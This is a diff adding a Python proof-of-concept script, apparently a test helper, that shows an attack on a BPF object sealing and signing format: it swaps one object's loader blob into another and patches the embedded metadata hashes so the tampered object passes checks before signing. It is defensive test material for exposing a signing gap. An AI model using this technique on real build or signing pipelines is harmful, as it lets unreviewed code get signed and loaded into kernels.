@@ -1,0 +1,98 @@
+#!/usr/bin/env python3
+"""Attack review of format 2 (test/sign/attack-blob-swap.test): what someone
+who can write a sealed object between `bpfseal seal` and `bpfseal sign`
+(a CI artifact, the machine that exports payloads for a remote signer) can
+do without any key.
+
+  attack_blob_swap.py swap A.sealed.o B.sealed.o OUT
+      A's file with B's gen_loader blob in its metadata (blob sizes must be
+      equal), A's ELF sections and manifest kept, and the SHA-256 of the
+      metadata that every loader-check prologue embeds rewritten. No reader
+      ties the blob (what the loader path runs) to the ELF sections (what
+      llvm-objdump shows and the libbpf path loads), so the result reads back.
+  attack_blob_swap.py payloads IN DIR
+      writes DIR/<loader>.payload, the bytes each loader's signature covers
+      (insns, plus the metadata for kernel-check), as an external signer
+      would receive them.
+  attack_blob_swap.py attach IN DIR OUT
+      fills each signature slot from DIR/<loader>.p7s (u32 length, DER, zeros).
+"""
+import hashlib
+import os
+import struct
+import sys
+
+
+def sections(data):
+    shoff, = struct.unpack_from("<Q", data, 0x28)
+    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", data, 0x3A)
+    hdrs = [struct.unpack_from("<IIQQQQ", data, shoff + i * shentsize) for i in range(shnum)]
+    stroff = hdrs[shstrndx][4]
+    out = {}
+    for name, _t, _f, _a, off, size in hdrs:
+        end = data.index(b"\0", stroff + name)
+        out[data[stroff + name:end].decode()] = (off, size)
+    return out
+
+
+def blob_size(meta):
+    magic, blob, _json = struct.unpack_from("<8sII", meta, len(meta) - 16)
+    assert magic == b"BPFSMETA", magic
+    return blob
+
+
+def swap(a_path, b_path, out_path):
+    a = bytearray(open(a_path, "rb").read())
+    b = open(b_path, "rb").read()
+    moff, msize = sections(a)[".bpfseal.meta"]
+    boff, bsize = sections(b)[".bpfseal.meta"]
+    old_meta = bytes(a[moff:moff + msize])
+    n = blob_size(old_meta)
+    if n != blob_size(b[boff:boff + bsize]):
+        sys.exit("blob sizes differ")
+    a[moff:moff + n] = b[boff:boff + n]
+    old_sha = hashlib.sha256(old_meta).digest()
+    new_sha = hashlib.sha256(bytes(a[moff:moff + msize])).digest()
+    patched = 0
+    for name, (off, size) in sections(a).items():
+        if not name.startswith(".bpfseal.loader."):
+            continue
+        for k in range(4):
+            lo_o, hi_o = old_sha[8 * k:8 * k + 4], old_sha[8 * k + 4:8 * k + 8]
+            for i in range(off, off + size - 15, 8):
+                # ld_imm64: imm of the first half is the low word, of the second the high.
+                if a[i] == 0x18 and a[i + 4:i + 8] == lo_o and a[i + 12:i + 16] == hi_o:
+                    a[i + 4:i + 8] = new_sha[8 * k:8 * k + 4]
+                    a[i + 12:i + 16] = new_sha[8 * k + 4:8 * k + 8]
+                    patched += 1
+    if not patched:
+        sys.exit("no metadata hash found in the loaders")
+    open(out_path, "wb").write(a)
+
+
+def payloads(path, out_dir):
+    data = open(path, "rb").read()
+    secs = sections(data)
+    moff, msize = secs[".bpfseal.meta"]
+    os.makedirs(out_dir, exist_ok=True)
+    for name, (off, size) in secs.items():
+        if name.startswith(".bpfseal.loader."):
+            loader = name[len(".bpfseal.loader."):]
+            payload = data[off:off + size]
+            if loader == "kernel-check":
+                payload += data[moff:moff + msize]
+            open(os.path.join(out_dir, loader + ".payload"), "wb").write(payload)
+
+
+def attach(path, sig_dir, out_path):
+    data = bytearray(open(path, "rb").read())
+    for name, (off, size) in sections(data).items():
+        if name.startswith(".bpfseal.sig."):
+            der = open(os.path.join(sig_dir, name[len(".bpfseal.sig."):] + ".p7s"), "rb").read()
+            data[off:off + size] = struct.pack("<I", len(der)) + der + bytes(size - 4 - len(der))
+    open(out_path, "wb").write(data)
+
+
+if __name__ == "__main__":
+    mode, args = sys.argv[1], sys.argv[2:]
+    {"swap": swap, "payloads": payloads, "attach": attach}[mode](*args)
